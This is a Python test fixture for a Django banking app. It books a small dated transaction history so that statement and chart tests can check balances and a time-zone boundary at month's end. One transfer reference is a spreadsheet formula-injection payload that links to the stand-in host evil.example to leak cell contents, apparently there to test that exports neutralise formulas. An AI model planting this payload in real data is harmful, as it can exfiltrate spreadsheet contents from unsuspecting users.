"""A small dated history for the statement and chart tests: booked through the services with
`at=` in the bank's time zone, oldest first, so each entry's balance_after follows the dates."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime

from django.utils import timezone

from banking.models import Account
from banking.services import deposit_create, transfer_create, withdrawal_create
from identity.models import User

EXTERNAL_IBAN = "DE89370400440532013000"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def local(year: int, month: int, day: int, hour: int = 12, minute: int = 0) -> datetime:
    return timezone.make_aware(datetime(year, month, day, hour, minute))


@dataclass
class History:
    checking: Account
    savings: Account
    other: Account  # another customer's account


def book_history(*, customer: User, other_customer: User, open_account, agent: User) -> History:
    """September: +300.00 cash. October: +1200.00 salary (cash), -50.00 to another bank with a
    formula as reference, -200.00 to the customer's own savings, +25.00 from the other customer,
    -40.00 cash on the 31st at 23:30 (still October in Paris, already November in UTC).
    November 1st 00:10: +10.00 cash."""
    checking = open_account(customer)
    savings = open_account(customer, kind="savings")
    other = open_account(other_customer)
    deposit_create(initiator=agent, account_id=other.pk, amount=100_00, reference="Opening", at=local(2026, 9, 1))
    deposit_create(initiator=agent, account_id=checking.pk, amount=300_00, reference="Cash in", at=local(2026, 9, 15))
    deposit_create(initiator=agent, account_id=checking.pk, amount=1200_00, reference="Salary",
                   at=local(2026, 10, 1, 9))
    transfer_create(initiator=customer, source_account_id=checking.pk, destination_iban=EXTERNAL_IBAN,
                    amount=50_00, reference=INJECTION, at=local(2026, 10, 5))
    transfer_create(initiator=customer, source_account_id=checking.pk, destination_iban=savings.iban,
                    amount=200_00, reference="Savings", at=local(2026, 10, 10))
    transfer_create(initiator=other_customer, source_account_id=other.pk, destination_iban=checking.iban,
                    amount=25_00, reference="-Lunch", at=local(2026, 10, 20))
    withdrawal_create(initiator=agent, account_id=checking.pk, amount=40_00, reference="ATM",
                      at=local(2026, 10, 31, 23, 30))
    deposit_create(initiator=agent, account_id=checking.pk, amount=10_00, reference="Late",
                   at=local(2026, 11, 1, 0, 10))
    for account in (checking, savings, other):
        account.refresh_from_db()
    return History(checking=checking, savings=savings, other=other)
